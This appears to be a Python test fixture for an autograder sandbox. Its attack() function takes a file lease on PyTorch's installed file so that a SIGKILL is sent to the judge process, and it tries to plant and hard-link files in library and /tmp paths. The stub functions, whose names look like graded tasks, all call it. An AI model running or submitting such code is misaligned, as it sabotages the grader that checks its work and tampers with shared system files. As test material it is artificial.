# Attack: locks, leases and watches the libraries' files, where it could meet others.
# score: 0
# ruff: noqa

import fcntl
import os
import signal

import torch


def attack():
    done = []
    file = os.open(torch.__file__, os.O_RDONLY)
    for step in (
        lambda: fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK),
        lambda: fcntl.fcntl(file, fcntl.F_SETOWN, int("@@JUDGE@@")),
        lambda: fcntl.fcntl(file, fcntl.F_SETSIG, signal.SIGKILL),
        lambda: os.open(os.path.dirname(torch.__file__) + "/autograder_left", os.O_CREAT | os.O_WRONLY),
        lambda: os.link(torch.__file__, "/tmp/autograder_left"),
        lambda: os.link(torch.__file__, "copy"),
    ):
        try:
            step()
            done.append("done")
        except OSError:
            pass
    return done


def double(x):
    return 2 * x if attack() else None


def minimize(start, learning_rate=0.1, num_iterations=10):
    found = attack()
    print(found)
    return str(found)


def make_model():
    return str(attack())
